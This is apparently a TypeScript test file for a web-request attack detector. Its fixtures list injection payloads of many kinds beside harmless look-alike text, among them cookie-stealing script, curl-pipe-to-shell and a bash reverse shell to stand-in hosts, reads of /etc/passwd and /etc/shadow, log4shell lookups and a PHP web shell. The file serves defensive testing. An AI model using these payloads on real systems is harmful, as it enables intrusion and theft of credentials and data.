/* eslint-disable no-template-curly-in-string -- expressions of other languages are what is tested */
import { test } from 'tap'
import { inForm, inJson, inQuery, inspect } from './payload-observation.ts'

/** Attacks per family, each a complete structure written for this test, beside ordinary text that shares its words and letters. */
interface Fixture { family: string, attacks: string[], ordinary: string[] }

const FIXTURES: Fixture[] = [
  {
    family: 'sqli',
    attacks: ["x' UNION SELECT login, secret FROM members-- ", '7) OR (3=3', "ann' OR 'b'='b", '5; DROP TABLE invoices--', '2 AND SLEEP(9)', "z'||(SELECT name FROM sqlite_master)||'", '4/**/UNION/**/ALL/**/SELECT/**/1,2,3', "kim'--", '9 ORDER BY 12-- ', "1' AND extractvalue(1,concat(0x7e,version()))-- -", '%27%20or%2011=11%23'],
    ordinary: ["the O'Neill union selected a few delegates", 'select your table and drop us a line', 'black or white', '3 or 4 people', "rock 'n' roll and rhythm 'n' blues", 'where is my order by the way?', '15" laptop and 17" monitor', 'price > 10 and name like "%shoe%"', 'insert coin; update your status; delete cookies']
  },
  {
    family: 'nosqli',
    attacks: ["'; return this.role == 'root' && '1'=='1", '{"$where": "this.age > 1"}', 'db.accounts.drop({a:1})'],
    ordinary: ['it costs $5 or $10', 'US$ and CA$', 'return this form by Monday']
  },
  {
    family: 'xss',
    attacks: ['<script>fetch("//x.example/"+document.cookie)</script>', '"><svg onload=prompt(7)>', '<a href="jav&#x61;script:run(1)">go</a>', '<img src=q onerror=import("//x")>', '" autofocus onfocus="confirm(2)', '<div style="width:expression(run())">', '&lt;iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"&gt;', '%253Cscript%253Ealert(4)%253C/script%253E', '\\u003cscript\\u003ealert(5)\\u003c/script\\u003e'],
    ordinary: ['a < b and b > c', 'I <3 this', '<b>bold</b> and <i>italic</i> text', 'the script for the play', 'once upon a time = long ago', '<p>Hello</p><a href="https://example.org/">link</a>']
  },
  {
    family: 'cmdi',
    attacks: ['; cat /etc/passwd', '$(curl http://x.example/a|sh)', '`wget http://x.example/b`', '|/usr/bin/id', "w'h'o\\ami;c''at /etc/pas?wd", '127.0.0.1 && cat /etc/shadow', '() { :; }; /bin/sh -c id', '{cat,/etc/passwd}', 'bash -i >& /dev/tcp/192.0.2.9/444 0>&1', '& ping -n 30 127.0.0.1 &', 'x\n/bin/cat /etc/hosts'],
    ordinary: ['Smith & Sons; est. 1902', 'cats & dogs', 'changed my mind; too small', 'find a date and time', 'R&D | Marketing', 'ping me later', 'more or less; who knows', 'the cat sat on the mat']
  },
  {
    family: 'ssti',
    attacks: ['{{6*6}}', '${9*9}', "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= system('id') %>", '#{7*7}', "{{request|attr('application')}}", '${T(java.lang.Runtime).getRuntime()}'],
    ordinary: ['{{name}}', 'dear ${customer}', 'use {curly} braces', 'issues{/number}']
  },
  { family: 'ldapi', attacks: ['*)(uid=*))(|(uid=*', 'bob)(|(password=*))'], ordinary: ['ring me (or text)', 'size (S)(M)(L)'] },
  { family: 'xpathi', attacks: ["' or count(/child::node())=1 or 'a'='b", 'count(//user[1]/child::text())'], ordinary: ['count me in', 'the node count is 5'] },
  { family: 'traversal', attacks: ['../../../../etc/passwd', '..%2f..%2f..%2fwindows/win.ini', '..\\..\\..\\boot.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow'], ordinary: ['and so on...', 'v1.2..v1.3', './readme.md', 'photos/2024/june.jpg'] },
  { family: 'rfi', attacks: ['php://filter/convert.base64-encode/resource=index', 'phar://x.zip/y', 'http://x.example/c.txt?'], ordinary: ['https://example.org/', 'http://example.org/a?b=c'] },
  { family: 'ssrf', attacks: ['http://169.254.169.254/latest/meta-data/', 'gopher://127.0.0.1:6379/_INFO', 'http://0x7f000001/', 'http://2130706433/', 'http://[::ffff:127.0.0.1]/'], ordinary: ['https://metadata-blog.example.org/', 'https://example.org:8443/x'] },
  { family: 'redirect', attacks: ['////evil.example/', '/\\evil.example', 'https:/\\evil.example'], ordinary: ['/account/orders?status=open', '//cdn.example.org/app.js?v=3'] },
  { family: 'crlf', attacks: ['x\r\nSet-Cookie: a=b', 'y\r\n\r\nHTTP/1.1 200 OK'], ordinary: ['first line\nsecond line'] },
  { family: 'ssi', attacks: ['<!--#exec cmd="id" -->', '<!--#include virtual="/x"-->'], ordinary: ['<!-- a comment -->'] },
  { family: 'php', attacks: ['<?php system($_GET["c"]); ?>', 'eval(base64_decode("ZWNobw=="))', '$_SERVER["x"]'], ordinary: ['the system (new) works', 'file a claim (today)'] },
  { family: 'java', attacks: ['java.lang.Runtime', '@java.lang.Runtime@getRuntime().exec("id")'], ordinary: ['coffee from Java', 'runtime of 3 hours'] },
  { family: 'code', attacks: ['require("child_process").exec("id")', '@{[system "id"]}'], ordinary: ['this process requires a permit'] },
  { family: 'deserial', attacks: ['O:7:"Example":1:{s:1:"a";i:1;}', 'rO0ABXNyABFqYXZhLnV0aWw'], ordinary: ['note: see 7: "quoted"'] },
  { family: 'log4shell', attacks: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:${::-r}mi://x.example/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/}'], ordinary: ['price: ${amount}'] }
]

test('a complete attack of every family reaches the block threshold in a query, a form and a JSON value', (t) => {
  for (const { family, attacks } of FIXTURES) {
    for (const attack of attacks) {
      for (const [place, finding] of Object.entries({ query: inQuery(attack), form: inForm(attack), json: inJson({ note: attack }) })) {
        if (place !== 'query' && (family === 'crlf' || family === 'rfi')) continue
        t.ok(finding.value >= 0.75, `${family} in ${place}: ${JSON.stringify(attack)} has ${finding.value}`)
      }
    }
  }
  t.end()
})

test('ordinary text that shares words and letters with attacks stays below the challenge threshold', (t) => {
  for (const { family, ordinary } of FIXTURES) {
    for (const text of ordinary) {
      for (const [place, finding] of Object.entries({ query: inQuery(text), form: inForm(text), json: inJson({ note: text }) })) {
        t.ok(finding.value < 0.4, `${family} in ${place}: ${JSON.stringify(text)} has ${finding.value} ${finding.evidence[0]?.rule ?? ''}`)
      }
    }
  }
  t.end()
})

test('the strongest structures are graded certain, and only certain reaches the score of a standing ban', (t) => {
  for (const attack of ["x' UNION SELECT a, b FROM c-- ", '<script>alert(1)</script>', '; cat /etc/passwd', '{{7*7}}', '../../../../etc/passwd', '<!--#exec cmd="id"-->', '${jndi:dns://x.example}']) {
    const finding = inQuery(attack)
    t.equal(finding.grade, 'certain', attack)
    t.ok(finding.value >= 0.9)
  }
  const likely = inQuery('java.lang.Runtime')
  t.equal(likely.grade, 'likely')
  t.ok(likely.value < 0.9, 'likely evidence refuses one request and bans nobody')
  t.end()
})

test('names of fields are judged: operators, prototypes, and structure where names stand', (t) => {
  t.ok(inJson({ password: { $ne: null } }).value >= 0.75)
  t.ok(inspect({ url: '/login?user=a&pass[$ne]=x' }).value >= 0.75)
  t.ok(inspect({ headers: ['content-type', 'application/json'], body: '{"a":{"__proto__":{"admin":true}}}' }).value >= 0.75)
  t.ok(inspect({ url: '/x?a[constructor][prototype][b]=1' }).value >= 0.75)
  t.equal(inJson({ $schema: 'https://json-schema.org/draft', items: { $ref: 'abc' } }).value, 0)
  t.ok(inspect({ url: '/products?filter[price][gte]=29&sort=-name' }).value < 0.1)
  t.end()
})

test('a path, cookies and custom headers are inspected', (t) => {
  t.ok(inspect({ url: '/files/..%2f..%2f..%2fetc/passwd' }).value >= 0.75)
  t.ok(inspect({ url: "/users/1'%20or%20'1'='1" }).value >= 0.75)
  t.ok(inspect({ headers: ['cookie', "theme=x' UNION SELECT 1,2-- "] }).value >= 0.75)
  t.ok(inspect({ headers: ['X-Client', '${jndi:ldap://x.example/}'] }).value >= 0.75)
  t.ok(inspect({ headers: ['User-Agent', '() { :; }; /bin/id'] }).value >= 0.75)
  t.equal(inspect({ headers: ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/147.0 Safari/537.36', 'Referer', 'https://example.org/a?b=c'] }).value, 0)
  t.end()
})

test('evidence quotes what was sent, and no word of ours', (t) => {
  for (const value of ['late; ls -la', 'changed my mind & curl -s http://x.example/a', 'run `ls -la` in the shell']) {
    const { evidence } = inspect({ url: `/a?q=${encodeURIComponent(value)}` })
    t.ok(evidence.length > 0, value)
    for (const { text } of evidence) {
      const quoted = /^matched "(.*?)…?" in/.exec(text)?.[1]
      t.ok(quoted !== undefined && value.includes(quoted.replace(/^…/, '')), text)
    }
  }
  t.end()
})

test('evidence names rule, place and technique, and never shows what a secret place holds', (t) => {
  const finding = inspect({ headers: ['content-type', 'application/json'], body: JSON.stringify({ password: "hunter2' OR '1'='1" }) })
  t.ok(finding.value >= 0.75)
  for (const evidence of finding.evidence) {
    t.notMatch(evidence.text, /hunter2/)
    t.ok(evidence.text.length <= 160)
    t.match(evidence.rule, /^[a-z0-9]+\.[a-z0-9-]+$/)
    t.match(evidence.place, 'body.password')
  }
  t.equal(finding.evidence[0]?.technique, 'T1190')
  t.ok(finding.evidence.length <= 8)
  t.end()
})

test('documents that quote attacks are challenged at most', (t) => {
  const tutorial = '# How injection works\n\nA login form that joins strings can be fooled by a quote, for example with\nthe classic text or one equals one. Teams call `curl https://example.org | sh` dangerous\nfor the same reason, and pages that print a name without escaping it run\n<script>alert(1)</script> in the browser of whoever opens them. Always bind values.\n'
  t.ok(inJson({ body: tutorial }).value < 0.75)
  t.not(inJson({ body: tutorial }).grade, 'certain')
  t.end()
})

test('the same observation gives the same finding, and sensitivity moves only what is not certain', (t) => {
  const parts = { url: '/x?q=' + encodeURIComponent('java.lang.Runtime') }
  t.same(inspect(parts), inspect(parts))
  t.ok(inspect(parts, 1).value < inspect(parts, 2).value)
  t.ok(inspect(parts, 4).value >= inspect(parts, 2).value)
  t.equal(inspect({ url: '/x?q=%7B%7B7*7%7D%7D' }, 1).grade, 'certain')
  t.ok(inspect({ url: '/x?q=%7B%7B7*7%7D%7D' }, 1).value >= 0.75)
  t.end()
})

test('line breaks, underscores and nested brackets without end are read in linear time', (t) => {
  for (const unit of ['\n', '_', 'a__b', '{', 'select &a;', '$a[', 'runtime ']) {
    const text = unit.repeat(65_536 / unit.length)
    const before = process.cpuUsage()
    inForm(text)
    inJson({ [text.slice(0, 8_192)]: text })
    inspect({ headers: ['cookie', text.slice(0, 16_384), 'x-note', text.slice(0, 16_384)] })
    const { user, system } = process.cpuUsage(before)
    t.ok((user + system) / 1000 < 500, `${JSON.stringify(unit)} took ${(user + system) / 1000} ms of CPU`)
  }
  t.end()
})
